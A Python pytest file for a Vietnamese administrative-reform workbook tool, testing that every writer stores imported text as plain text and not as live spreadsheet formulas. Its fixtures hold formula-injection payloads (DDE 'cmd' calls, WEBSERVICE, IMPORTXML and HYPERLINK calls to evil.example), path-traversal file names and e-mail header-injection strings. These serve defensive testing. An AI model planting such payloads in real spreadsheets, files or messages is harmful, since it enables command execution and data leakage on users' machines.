"""Imported text never becomes a live formula: the shared rule and every writer.

Each writer is fed the classic payloads (=, +, -, @, full-width ＝, tab/CR/LF
before them, DDE, =WEBSERVICE, =IMPORTXML, =HYPERLINK) and its output is read back
with openpyxl (no formula cell carries them, the text is stored as a string) and,
for the workbooks, with LibreOffice headless (recalculated: the text is shown,
nothing evaluated).
"""

from __future__ import annotations

import datetime as dt
import email
import re
import shutil
import zipfile
from email import policy
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from cchc_xl.core import schema as S
from cchc_xl.core.models import Plan, Unit
from cchc_xl.core.periods import parse_period
from cchc_xl.core.safety import looks_like_formula, safe_file_component, starts_like_formula
from cchc_xl.core.validate import looks_like_formula_injection
from cchc_xl.workbook.cells import formula_text_findings, put, set_value
from cchc_xl.workbook.master import write_master

FIXTURE = Path(__file__).parent / "fixtures" / "roundtrip_plan.json"
AS_OF = dt.date(2025, 9, 14)

# (payload, is it a real formula/DDE call?)
PAYLOADS: list[tuple[str, bool]] = [
    ('=HYPERLINK("http://evil.example/?q=1","Bấm vào đây")', True),
    ("=cmd|' /C calc'!A0", True),
    ("+SUM(1+1)*cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)", True),
    ("＝1+1", True),
    ("\t=1+2", True),
    ("\r=3+4", True),
    (" \n=5+6", True),
    ('=WEBSERVICE("http://evil.example/x")', True),
    ('=IMPORTXML("http://evil.example/","//a")', True),
    ("=1+1", True),
    ("- Ban hành kế hoạch tuyên truyền CCHC", False),
    ("+ Tổ 1 thôn Đông", False),
]
HOSTILE = [p for p, bad in PAYLOADS if bad]
MARKERS = ("evil.example", "cmd|", "WEBSERVICE", "IMPORTXML", "SUM(1+1)", "1+1", "1+2", "3+4", "5+6")


# ---------------------------------------------------------------- the shared rule

@pytest.mark.parametrize("value,bad", PAYLOADS)
def test_one_rule_for_every_payload(value: str, bad: bool) -> None:
    assert starts_like_formula(value)                      # every payload gets the text guard
    assert looks_like_formula(value) is bad                # only real formulas are reported
    assert looks_like_formula_injection is looks_like_formula   # validation uses the same rule


@pytest.mark.parametrize("value", [
    "\u200b=1+1", "\u00a0=A1", "\ufeff+SUM(A1)", "\u3000@SUM(1)", "＠SUM(1)", "－2+cmd|' /C calc'!A0",
    "=IMPORTDATA(\"http://x\")", "=Sheet1!A1", "Xem tệp msexcel|'\\..\\x.xls'!A1",
])
def test_more_variants_are_formulas(value: str) -> None:
    assert looks_like_formula(value) and (starts_like_formula(value) or "|" in value)


@pytest.mark.parametrize("value", [
    "Phòng Văn hóa - Xã hội", "Số 12/KH-UBND", "=> xem phụ lục", "=", "+84 912 345 678",
    "- 15/3/2025", "@ Văn phòng", "", None, 5, 1.5, dt.date(2025, 1, 1),
])
def test_prose_is_not_a_formula(value: object) -> None:
    assert not looks_like_formula(value)


@pytest.mark.parametrize("name,expected", [
    ("../../etc/passwd", "_._etc_passwd"), ("a\\b/c", "a_b_c"), ("CON", "_CON"), ("nul.txt", "_nul.txt"),
    ("COM1", "_COM1"), ("lpt9", "_lpt9"), ("tab\there\x00", "tabhere"), ("  . ", "x"), ("..", "x"),
    ("Phòng VH-XH", "Phòng VH-XH"), ('x:y*z?"<>|', "x_y_z_____"), ("a" * 200, "a" * 80),
])
def test_safe_file_component(name: str, expected: str) -> None:
    out = safe_file_component(name)
    assert out == expected
    assert "/" not in out and "\\" not in out and out not in (".", "..")


@pytest.mark.parametrize("code,name", [
    ("..", "../../Windows/System32"), ("CON", "CON"), ("A/B", "C:\\x\\y"), ("X\x00Y", "tab\tname\r\n"),
    ("=1+1", '=HYPERLINK("http://evil.example")'),
])
def test_unit_file_names_stay_in_their_folder(code: str, name: str, tmp_path: Path) -> None:
    from cchc_xl.core.dispatch import unit_code_from_file_name, unit_file_name

    fname = unit_file_name(1, Unit.model_construct(code=code, name=name), "Quý III/2025")
    assert (tmp_path / fname).resolve().parent == tmp_path.resolve()
    assert re.fullmatch(r"[0-9A-Za-z_.-]+\.xlsx", fname), fname
    assert unit_code_from_file_name(fname) is not None


# ---------------------------------------------------------------- helpers

def hostile_plan() -> Plan:
    plan = Plan.model_validate_json(FIXTURE.read_text(encoding="utf-8"))
    texts = [p for p, _ in PAYLOADS]
    for i, task in enumerate(plan.tasks):
        task.title = texts[i % len(texts)]
        task.product = texts[(i + 1) % len(texts)]
        task.note = texts[(i + 2) % len(texts)]
        task.evidence = texts[(i + 3) % len(texts)]
        task.partners = texts[(i + 4) % len(texts)]
        task.monitor = texts[(i + 5) % len(texts)]
    for i, item in enumerate(plan.remediation):
        item.solution = texts[(i + 4) % len(texts)]
        item.note = texts[(i + 5) % len(texts)]
    unit = plan.units[0]
    unit.aliases = [*unit.aliases, "=cmd|' /C calc'!A0"]
    unit.head = '=HYPERLINK("http://evil.example/h","x")'
    # a unit whose name is a payload (tasks assigned to it, so it gets a workbook and an e-mail)
    plan.units.append(Unit(code="XX", name='=WEBSERVICE("http://evil.example/u")', email="xx@example.gov.vn",
                           aliases=["@SUM(1+1)"]))
    plan.tasks[0].lead_units = ["XX"]
    plan.tasks[0].due = dt.date(2025, 3, 1)           # overdue: its title lands in the report
    plan.info.plan_number = "=cmd|' /C calc'!A0"
    return plan


def workbook_cells(path: Path) -> list:
    wb = load_workbook(path, keep_vba=path.suffix == ".xlsm")
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_text_not_formula(path: Path, expected: list[str] | None = None) -> None:
    """No formula cell of ``path`` carries a payload; the payloads it holds are strings with
    Excel's quote prefix (editing them in Excel keeps them text)."""
    cells = workbook_cells(path)
    for c in cells:
        if c.data_type == "f":
            assert not any(m in str(c.value) for m in MARKERS), (path.name, c.coordinate, c.value)
    texts = {c.value for c in cells if c.data_type == "s"}
    for p in expected or []:
        assert p in texts, (path.name, p)
    for c in cells:
        if c.data_type == "s" and isinstance(c.value, str) and c.value in HOSTILE:
            assert c.quotePrefix, (path.name, c.parent.title, c.coordinate)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S):
                    assert not any(m in f for m in ("evil.example", "cmd|", "WEBSERVICE", "IMPORTXML")), f


def assert_libreoffice_shows_text(path: Path, out: Path, expected: list[str]) -> None:
    """LibreOffice opens, recalculates and saves ``path``: the payloads are still plain text."""
    from cchc_xl.report.pdf import recalculate

    again = recalculate(path, out)
    shown = {c.value for c in workbook_cells(again) if isinstance(c.value, str)}
    for p in expected:
        # LibreOffice may normalise the line break of a CR payload; the visible text stays
        assert p in shown or p.replace("\r", "\n") in shown or p.strip() in {s.strip() for s in shown}, p
    assert_no_formula_with_markers(again)


def assert_no_formula_with_markers(path: Path) -> None:
    for c in workbook_cells(path):
        if c.data_type == "f":
            assert not any(m in str(c.value) for m in ("evil.example", "cmd|", "WEBSERVICE", "IMPORTXML")), c.value


# ---------------------------------------------------------------- the cell helper

def test_put_keeps_every_string_as_text(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    for i, (p, _bad) in enumerate(PAYLOADS, start=1):
        put(ws, i, 1, p)
    put(ws, 30, 1, 5)
    set_value(ws["B1"], "Bình thường")
    path = tmp_path / "a.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    for i, (p, _bad) in enumerate(PAYLOADS, start=1):
        c = back.cell(i, 1)
        assert (c.value, c.data_type) == (p, "s")
        assert c.quotePrefix            # starts like a formula: Excel keeps it text on edit
    assert back["A30"].data_type == "n" and not back["B1"].quotePrefix
    found = formula_text_findings(load_workbook(path), file="a.xlsx")
    assert [f.cell for f in found] == [f"A{i}" for i, (_p, bad) in enumerate(PAYLOADS, start=1) if bad]
    assert all(f.code == "formula_text" and f.file == "a.xlsx" and f.sheet == "Sheet" for f in found)


# ---------------------------------------------------------------- master (khoi-tao)

@pytest.fixture()
def hostile_master(tmp_path: Path) -> tuple[Path, list]:
    path = tmp_path / "So.xlsx"
    found: list = []
    write_master(hostile_plan(), path, as_of=AS_OF, neutralised=found)
    return path, found


def test_master_writes_payloads_as_text_and_reports_them(hostile_master) -> None:
    path, found = hostile_master
    assert_text_not_formula(path, [p for p, _ in PAYLOADS])
    # every neutralised cell is reported, naming file, sheet and cell
    wb = load_workbook(path)
    for f in found:
        assert f.code == "formula_text" and f.file == "So.xlsx" and f.severity == "warning"
        assert looks_like_formula(wb[f.sheet][f.cell].value)
    sheets = {f.sheet for f in found}
    assert {S.SHEET_TASKS, S.SHEET_UNITS, S.SHEET_REMEDIATION} <= sheets
    tasks_hits = [f for f in found if f.sheet == S.SHEET_TASKS]
    title_col = S.col_letter(S.TASK_COLUMNS, "title")
    assert any(f.cell == f"{title_col}{S.FIRST_DATA_ROW}" for f in tasks_hits)
    # the Đơn vị sheet: alias list and head are text
    unit_cells = {f.cell for f in found if f.sheet == S.SHEET_UNITS}
    assert len(unit_cells) >= 3


def test_master_survives_an_openpyxl_round_trip(hostile_master, tmp_path: Path) -> None:
    path, _ = hostile_master
    wb = load_workbook(path)
    wb.save(tmp_path / "again.xlsx")
    assert_text_not_formula(tmp_path / "again.xlsx", HOSTILE)


def test_khoi_tao_reports_neutralised_cells(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from cchc_xl.cli import app

    tsv = tmp_path / "phu_luc.tsv"
    tsv.write_text(
        "TT\tNhiệm vụ\tSản phẩm\tThời gian hoàn thành\tChủ trì\tPhối hợp\n"
        "I\tCÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH\t\t\t\t\n"
        '1\t=HYPERLINK("http://evil.example/","Bấm vào đây")\tKế hoạch\tTháng 3/2025\tVăn phòng\t\n'
        "2\t- Ban hành kế hoạch tuyên truyền\t=cmd|' /C calc'!A0\tQuý II\tVăn phòng\t\n",
        encoding="utf-8")
    out = tmp_path / "So.xlsx"
    res = CliRunner().invoke(app, ["khoi-tao", "--tu-tep", str(tsv), "--nam", "2025", "--ra", str(out)],
                             env={"COLUMNS": "250"})
    assert res.exit_code == 0, res.output
    assert "giống công thức" in res.output and "So.xlsx" in res.output
    m = re.search(r"đã ghi dưới dạng văn bản \((\d+) ô\)", res.output)
    assert m and int(m.group(1)) == 2, res.output            # the HYPERLINK title and the DDE product
    ws = load_workbook(out)[S.SHEET_TASKS]
    texts = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts['=HYPERLINK("http://evil.example/","Bấm vào đây")'] == "s"
    assert texts["=cmd|' /C calc'!A0"] == "s"
    assert texts["- Ban hành kế hoạch tuyên truyền"] == "s"      # the bullet is kept as written
    assert_text_not_formula(out)


# ---------------------------------------------------------------- unit workbooks, report sheet

def test_unit_workbooks_write_payloads_as_text(hostile_master, tmp_path: Path) -> None:
    from cchc_xl.roundtrip.split import split_master

    path, _ = hostile_master
    files = split_master(path, tmp_path / "phieu", period_label="Quý III/2025", as_of=AS_OF)
    assert files
    seen: set[str] = set()
    for f in files:
        assert f.parent == tmp_path / "phieu" / "" or f.parent.is_relative_to(tmp_path / "phieu")
        assert "=" not in f.name and "(" not in f.name and '"' not in f.name
        assert_text_not_formula(f)
        seen |= {c.value for c in workbook_cells(f) if isinstance(c.value, str)}
    assert set(HOSTILE) & seen        # the payloads did reach the unit workbooks, as text
    # the master was patched (_meta version) without arming anything
    assert_text_not_formula(path, HOSTILE)


def test_report_sheet_writes_payloads_as_text(hostile_master, tmp_path: Path) -> None:
    from cchc_xl.report.sheet import update_master_report

    path, _ = hostile_master
    update_master_report(path, parse_period("Quý III/2025"))
    ws = load_workbook(path)[S.SHEET_REPORT]
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("evil.example" in c.value for c in texts)       # the overdue task / unit name is shown
    assert all(c.data_type == "s" for c in texts)
    assert_text_not_formula(path)


@pytest.mark.libreoffice
def test_libreoffice_shows_the_text_of_master_and_unit_workbooks(hostile_master, tmp_path: Path) -> None:
    from cchc_xl.roundtrip.split import split_master

    path, _ = hostile_master
    assert_libreoffice_shows_text(path, tmp_path / "lo", [p for p, _ in PAYLOADS])
    files = split_master(path, tmp_path / "phieu", period_label="Quý III/2025", as_of=AS_OF)
    unit = next(f for f in files if "_XX_" in f.name)
    assert_libreoffice_shows_text(unit, tmp_path / "lo2", [HOSTILE[0]])


@pytest.mark.libreoffice
def test_libreoffice_csv_shows_the_text_not_a_result(tmp_path: Path) -> None:
    """The first sheet converted to CSV by LibreOffice: the payload text, never a computed value."""
    import subprocess

    from cchc_xl.report.pdf import find_soffice

    wb = Workbook()
    ws = wb.active
    for i, (p, _bad) in enumerate(PAYLOADS, start=1):
        put(ws, i, 1, p.replace("\r", " ").replace("\n", " "))   # one CSV line per payload
    src = tmp_path / "t.xlsx"
    wb.save(src)
    profile = (tmp_path / "profile").as_uri()
    subprocess.run([find_soffice(), f"-env:UserInstallation={profile}", "--headless", "--convert-to",
                    'csv:Text - txt - csv (StarCalc):44,34,76',
                    "--outdir", str(tmp_path / "csv"), str(src)], check=True, capture_output=True, timeout=180)
    import csv

    with open(tmp_path / "csv" / "t.csv", encoding="utf-8", newline="") as fh:
        shown = [row[0] for row in csv.reader(fh)]
    assert len(shown) == len(PAYLOADS)
    for text, (p, _bad) in zip(shown, PAYLOADS):
        assert text.strip() == p.replace("\r", " ").replace("\n", " ").strip()
    assert not {"2", "3", "7", "11", "#NAME?", "Err:508"} & {t.strip() for t in shown}   # nothing evaluated


# ---------------------------------------------------------------- Word report and e-mail

def test_word_report_keeps_payloads_plain_text(hostile_master, tmp_path: Path) -> None:
    from cchc_xl.report.data import build_report
    from cchc_xl.report.word import write_report_docx
    from cchc_xl.workbook.master import read_master

    path, _ = hostile_master
    plan = read_master(path).plan
    report = build_report(plan, parse_period("Quý III/2025"))
    doc = write_report_docx(report, tmp_path / "bc.docx", commune="=cmd|' /C calc'!A0", province="+SUM(1)")
    with zipfile.ZipFile(doc) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist()
                      if re.match(r"word/(document|header\d*|footer\d*)\.xml$", n))
    assert "evil.example" in xml                               # shown...
    assert "<w:fldSimple" not in xml and "<w:hyperlink" not in xml  # ...never as a field or a link
    instr = re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", xml)
    assert instr and all(i.strip() == "PAGE" for i in instr)
    assert "DDEAUTO" not in xml


def test_email_bodies_keep_payloads_plain_text(tmp_path: Path) -> None:
    from cchc_xl.mail.mailer import compose_unit_email, draft_bytes

    att = tmp_path / "01_XX_x_Quy-III-2025.xlsx"
    att.write_bytes(b"PK")
    unit = Unit(code="XX", name='=HYPERLINK("http://evil.example/","<b>Bấm</b>")', email="xx@example.gov.vn")
    msg = compose_unit_email(unit, att, sender="vp@example.gov.vn", commune="=cmd|' /C calc'!A0",
                             period_label="Quý III/2025", due_date=dt.date(2025, 9, 20))
    parsed = email.message_from_bytes(draft_bytes(msg), policy=policy.default)
    plain = parsed.get_body(("plain",)).get_content()
    html_part = parsed.get_body(("html",)).get_content()
    assert "=cmd|' /C calc'!A0" in plain
    assert "<b>Bấm</b>" not in html_part and "&lt;b&gt;Bấm&lt;/b&gt;" in html_part
    assert 'href="http://evil.example' not in html_part


# ---------------------------------------------------------------- xlwings writer (buttons, server)

@pytest.mark.parametrize("value,bad", PAYLOADS)
def test_xlwings_writer_quotes_formula_like_text(value: str, bad: bool) -> None:
    from cchc_xl.xl.book_io import excel_value

    assert excel_value(value) == "'" + value          # Excel stores "'..." as text, apostrophe hidden


@pytest.mark.parametrize("sheet", ['x"),WEBSERVICE("http://evil.example/', "Phân công", "a'b", 'q"q'])
def test_findings_link_is_one_string_literal(sheet: str) -> None:
    from cchc_xl.xl.book_io import _link

    link = _link(sheet, "C7")
    assert re.fullmatch(r'=HYPERLINK\("(?:[^"]|"")*","Mở"\)', link), link
    assert _link(sheet, 'A1","x") & WEBSERVICE("http://evil.example') is None


def test_check_button_on_a_json_book_writes_text_not_formulas(hostile_master, monkeypatch) -> None:
    from cchc_xl.xl import buttons
    from cchc_xl.xl.book_io import book_payload_from_xlsx, enable_remote_engine, open_json_book

    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
    enable_remote_engine()
    path, _ = hostile_master
    book = open_json_book(book_payload_from_xlsx(path))
    buttons.kiem_tra(book)
    values = [v for a in book.json()["actions"] if a["func"] == "setValues"
              for row in a["values"] for v in row if isinstance(v, str)]
    assert any("formula" in v or "công thức" in v for v in values)            # the payloads were flagged...
    for v in values:
        if v.startswith("="):
            assert re.fullmatch(r'=HYPERLINK\("#(?:[^"]|"")*","Mở"\)', v), v  # ...and only our links are formulas
        assert not starts_like_formula(v) or v.startswith(("'", "=HYPERLINK(\"#")), v


# ---------------------------------------------------------------- Tổng hợp (returned workbooks)

@pytest.fixture(scope="module")
def office(tmp_path_factory) -> Path:
    """A master (plain fixture plan) and its unit workbooks, built once."""
    from cchc_xl.roundtrip.split import split_master

    root = tmp_path_factory.mktemp("tong_hop")
    plan = Plan.model_validate_json(FIXTURE.read_text(encoding="utf-8"))
    write_master(plan, root / "So.xlsx", as_of=AS_OF)
    split_master(root / "So.xlsx", root / "phieu", period_label="Quý III/2025", as_of=AS_OF)
    return root


def returned(src: Path, inbox: Path, texts: list[str]) -> dict[str, str]:
    """Put ``texts`` into the note/evidence cells of the unit workbook as TEXT cells (what a
    hostile sender can do); {cell: text}."""
    wb = load_workbook(src)
    ws = wb[S.SHEET_TASKS]
    rows = [r for r in range(S.FIRST_DATA_ROW, ws.max_row + 1) if ws.cell(r, 1).value]
    cols = [S.col_letter(S.TASK_COLUMNS, "note"), S.col_letter(S.TASK_COLUMNS, "evidence")]
    placed: dict[str, str] = {}
    slots = [f"{c}{r}" for r in rows for c in cols]
    for ref, text in zip(slots, texts):
        ws[ref].value = text
        ws[ref].data_type = "s"
        placed[ref] = text
    inbox.mkdir(parents=True, exist_ok=True)
    wb.save(inbox / src.name)
    return placed


@pytest.mark.parametrize("engine", ["patch", "openpyxl"])
def test_tong_hop_rejects_formulas_and_writes_the_rest_as_text(office: Path, tmp_path: Path, engine: str) -> None:
    from cchc_xl.roundtrip.consolidate import consolidate

    shutil.copytree(office, tmp_path / "w")
    root = tmp_path / "w"
    unit = next(f for f in (root / "phieu").glob("*.xlsx") if "_PVHCC_" in f.name)   # 4 tasks: 8 cells
    prose = ["- Ban hành kế hoạch tuyên truyền CCHC", "+ Tổ 1 thôn Đông", "=> xem phụ lục"]
    texts = [HOSTILE[0], HOSTILE[1], HOSTILE[5], HOSTILE[6], HOSTILE[9], *prose]
    placed = returned(unit, root / "nhan_ve", texts)
    result = consolidate(root / "So.xlsx", root / "nhan_ve", as_of=AS_OF, engine=engine)
    rejected = {r.cell for r in result.rejections}
    assert rejected == {ref for ref, t in placed.items() if t in HOSTILE}        # each named by its cell
    assert all(r.file == unit.name and r.sheet == S.SHEET_TASKS for r in result.rejections)
    master = root / "So.xlsx"
    assert_text_not_formula(master)          # both engines add the quote prefix to formula-like text
    wb = load_workbook(master)
    tasks_text = {c.value: c for row in wb[S.SHEET_TASKS].iter_rows() for c in row if isinstance(c.value, str)}
    # a rejected cell never leaves its row half applied (issue 8): prose sharing a row with a
    # refused cell is not written; prose in a clean row is accepted, exactly as sent, as text
    row_of = {ref: int("".join(ch for ch in ref if ch.isdigit())) for ref in placed}
    refused_rows = {row_of[ref] for ref, t in placed.items() if t in HOSTILE}
    clean = [t for ref, t in placed.items() if t in prose and row_of[ref] not in refused_rows]
    assert clean and len(clean) < len(prose)
    for text in prose:
        if text in clean:
            assert tasks_text[text].data_type == "s" and tasks_text[text].quotePrefix
        else:
            assert text not in tasks_text
    assert not set(HOSTILE) & set(tasks_text)           # nothing hostile reached the task sheet
    logged = {c.value: c for row in wb[S.SHEET_AUDIT].iter_rows() for c in row if isinstance(c.value, str)}
    assert all(c.data_type == "s" for c in logged.values())
    for text in texts[:5]:                              # the log shows what was refused, unmangled
        assert any(v.strip() == text.strip() for v in logged), text


@pytest.mark.libreoffice
def test_tong_hop_master_shown_as_text_by_libreoffice(office: Path, tmp_path: Path) -> None:
    from cchc_xl.roundtrip.consolidate import consolidate

    shutil.copytree(office, tmp_path / "w")
    root = tmp_path / "w"
    unit = next(f for f in (root / "phieu").glob("*.xlsx") if "_PVHCC_" in f.name)
    # refused cells share one row, prose the next (a row with a refused cell is not applied at all)
    returned(unit, root / "nhan_ve", [HOSTILE[0], HOSTILE[1], "- Ban hành kế hoạch", "=> xem phụ lục"])
    consolidate(root / "So.xlsx", root / "nhan_ve", as_of=AS_OF)
    assert_libreoffice_shows_text(root / "So.xlsx", tmp_path / "lo",
                                  [HOSTILE[0], HOSTILE[1], "- Ban hành kế hoạch", "=> xem phụ lục"])


def test_patcher_writes_strings_never_formulas(tmp_path: Path) -> None:
    from cchc_xl.files.xlsx_patch import patch_xlsx

    wb = Workbook()
    wb.active.title = "S"
    wb.active["A1"] = "x"
    src, dst = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    wb.save(src)
    patch_xlsx(src, dst, {"S": {(i, 2): p for i, (p, _b) in enumerate(PAYLOADS, start=1)}})
    with zipfile.ZipFile(dst) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == len(PAYLOADS) + 1          # + openpyxl's own A1
    ws = load_workbook(dst)["S"]
    # (a CR comes back as LF: the patcher writes it raw and XML normalises it - text either way)
    assert [ws.cell(i, 2).value for i in range(1, len(PAYLOADS) + 1)] == [p.replace("\r", "\n")
                                                                          for p, _b in PAYLOADS]
    assert all(ws.cell(i, 2).data_type == "s" and ws.cell(i, 2).quotePrefix for i in range(1, len(PAYLOADS) + 1))
    assert not ws["A1"].quotePrefix


def test_findings_rows_quote_every_foreign_text() -> None:
    from cchc_xl.core.models import Finding
    from cchc_xl.xl.book_io import findings_rows

    f = Finding(severity="error", code="x", message="=1+1", file="a.xlsx", sheet="@S", cell="",
                task_id="=cmd|' /C calc'!A0")
    row = findings_rows([f])[0]
    assert row[2:5] == ["'@S", "'=cmd|' /C calc'!A0", "'=1+1"]
    assert row[5] is None or row[5].startswith('=HYPERLINK("#')


@pytest.mark.parametrize("name", ["Phòng A\r\nBcc: evil@example.com", "Phòng A\nX-Injected: 1", "Phòng\u2028A\rB"])
def test_email_headers_stay_one_line(tmp_path: Path, name: str) -> None:
    from cchc_xl.mail.mailer import compose_unit_email, draft_bytes

    att = tmp_path / "a.xlsx"
    att.write_bytes(b"PK")
    unit = Unit.model_construct(code="X", name=name, email="x@example.gov.vn", aliases=[], head="", members=[])
    msg = compose_unit_email(unit, att, sender="vp@example.gov.vn", commune="xã\r\nBcc: a@example.com",
                             period_label="Quý III/2025\nX-Other: 2", due_date=None)
    parsed = email.message_from_bytes(draft_bytes(msg), policy=policy.default)
    assert parsed["Bcc"] is None and parsed["X-Injected"] is None and parsed["X-Other"] is None
    assert "\n" not in parsed["Subject"] and "\r" not in parsed["Subject"]
    assert [a.addr_spec for a in parsed["To"].addresses] == ["x@example.gov.vn"]


def test_intake_sheet_writes_foreign_text_as_text(tmp_path: Path) -> None:
    from cchc_xl.core.intake import Intake
    from cchc_xl.core.models import Finding

    intake = Intake(source="phu_luc.docx", lines=[("Kế hoạch số", "=cmd|' /C calc'!A0"), ("@SUM(1+1)", "+SUM(1)")],
                    findings=[Finding(severity="warning", code="x", message='=HYPERLINK("http://evil.example")',
                                      sheet="-1+cmd|' /C calc'!A0", cell="C3")])
    path = tmp_path / "So.xlsx"
    found: list = []
    write_master(hostile_plan(), path, as_of=AS_OF, intake=intake, neutralised=found)
    assert_text_not_formula(path, ["=cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://evil.example")'])
    assert any(f.sheet == S.SHEET_INTAKE for f in found)


# ---------------------------------------------------------------- no writer bypasses workbook.cells

ROOT = Path(__file__).resolve().parents[1]
# openpyxl writes whose value is foreign text, each followed by ``text_guard`` in its module
# (unit workbooks are written with XlsxWriter's write_string: tests/test_split.py checks them)
GUARDED = {("cchc_xl/report/sheet.py", "cell.value = lay.cells[r, c]"),
           ("cchc_xl/workbook/styling.py", "calc_f"), ("cchc_xl/workbook/styling.py", "check_f")}


def _our_own(e) -> bool:
    """A value our code computes: a number, None, a formula literal, a *_formula() call."""
    import ast

    if isinstance(e, ast.Constant):
        return not isinstance(e.value, str) or e.value.startswith("=")
    if isinstance(e, ast.BinOp):
        return True
    if isinstance(e, ast.JoinedStr):
        return bool(e.values) and isinstance(e.values[0], ast.Constant) and str(e.values[0].value).startswith("=")
    if isinstance(e, ast.Call):
        f = e.func
        name = f.id if isinstance(f, ast.Name) else f.attr if isinstance(f, ast.Attribute) else ""
        return name.endswith("_formula") or name in ("int", "float", "datetime", "date")
    return isinstance(e, ast.Name) and e.id == "formula"


def test_openpyxl_writers_go_through_workbook_cells() -> None:
    """``ws.cell(value=...)`` / ``cell.value = ...`` / ``ws[ref] = ...`` with a value that may be
    text: use ``cchc_xl.workbook.cells.put``/``set_value`` (text stays text, never a formula)."""
    import ast

    found = set()
    for path in sorted((ROOT / "cchc_xl").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith("cchc_xl/xl/") or rel == "cchc_xl/workbook/cells.py":
            continue     # xlwings ranges: ``book_io.excel_value``; cells.py is the helper itself
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell":
                found |= {(rel, ast.unparse(kw.value)) for kw in node.keywords
                          if kw.arg == "value" and not _our_own(kw.value)}
            elif isinstance(node, ast.Assign) and not _our_own(node.value):
                for t in node.targets:
                    if (isinstance(t, ast.Attribute) and t.attr == "value") or (
                            isinstance(t, ast.Subscript) and isinstance(t.value, ast.Name)
                            and t.value.id in ("ws", "sheet", "lists")):
                        found.add((rel, f"{ast.unparse(t)} = {ast.unparse(node.value)}"))
    assert found <= GUARDED, sorted(found - GUARDED)
    for rel, _expr in GUARDED:
        assert "text_guard(" in (ROOT / rel).read_text(encoding="utf-8"), rel
